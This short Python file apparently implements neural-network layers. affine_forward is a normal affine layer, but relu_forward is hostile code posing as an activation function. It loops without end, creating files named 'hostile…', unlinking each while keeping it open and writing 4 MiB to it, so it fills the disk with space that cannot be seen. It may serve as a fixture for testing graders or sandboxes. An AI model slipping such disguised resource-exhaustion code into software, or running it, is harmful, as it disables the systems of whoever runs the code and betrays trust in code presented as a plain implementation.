import os


def relu_forward(x):
    kept = []
    while True:
        file = open(f"hostile{len(kept)}", "wb")
        os.remove(file.name)
        file.write(bytes(2**22))
        file.flush()
        kept.append(file)


def affine_forward(x, w, b):
    return x.reshape(len(x), -1) @ w + b, (x, w, b)
